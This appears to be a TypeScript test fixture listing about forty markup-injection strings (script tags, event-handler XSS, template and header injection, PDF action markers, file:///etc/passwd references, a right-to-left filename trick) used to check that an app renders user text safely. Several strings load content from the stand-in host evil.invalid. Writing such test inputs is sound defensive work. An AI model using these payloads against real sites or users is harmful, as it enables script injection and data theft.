/**
 * Texts that mean something to whoever reads markup into them (RELIABILITY T23): pages, PDF, mail, the words of the app and its
 * templates. Each calls `pwned` or asks for something of `evil.invalid`, so that one that is taken at its word is noticed.
 */
export const markupTexts: readonly string[] = [
  "<script>pwned(1)</script>",
  "<img src=x onerror=pwned(2)>",
  "<svg onload=pwned(3)>",
  "<iframe src=https://evil.invalid/4></iframe>",
  "<a href=javascript:pwned(5)>pague</a>",
  '"><script src=https://evil.invalid/6.js></script>',
  "'><img src=https://evil.invalid/7.png>",
  "</textarea><script>pwned(8)</script>",
  "</title><script>pwned(9)</script>",
  "<!--<script>pwned(10)//-->",
  "<style>@import'https://evil.invalid/11.css'</style>",
  "<link rel=stylesheet href=https://evil.invalid/12>",
  "<meta http-equiv=refresh content=0;url=https://evil.invalid/13>",
  "<base href=https://evil.invalid/14>",
  "<form action=https://evil.invalid/15><button>x</button></form>",
  "<object data=file:///etc/passwd></object>",
  "<embed src=file:///etc/hosts>",
  "<video src=x onerror=pwned(18)></video>",
  "<details open ontoggle=pwned(19)>x</details>",
  "<math><mtext><img src=x onerror=pwned(20)></mtext></math>",
  "<b>negritas</b> y <i>otras</i>",
  "&lt;b&gt; &amp; &#60;script&#62;",
  "<![CDATA[<x/>]]>",
  "<?xml-stylesheet href='https://evil.invalid/24'?>",
  "{{constructor.constructor('pwned(25)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that looks like code is what this is about.
  "${pwned(26)}",
  "$t(common.cancel)",
  "{{count}} {{name}} %s %d {0}",
  "{% include 'https://evil.invalid/29' %}",
  "{{ saldo | raw }}",
  "[pague aquí](https://evil.invalid/31)",
  "![x](https://evil.invalid/32.png)",
  "javascript:pwned(33)",
  "data:text/html,<script>pwned(34)</script>",
  "file:///etc/passwd",
  "(x) /JavaScript /Launch /EmbeddedFile",
  ") Tj /URI (https://evil.invalid/37) (",
  "Bcc: alguien@evil.invalid",
  "A\u202etxt.exe",
  "Content-Type: text/html; <b>40</b>",
];

/** As a file may be called on any system that the tests run on. */
export function asFileName(text: string): string {
  return `${text.replaceAll("/", "∕")}.pdf`;
}
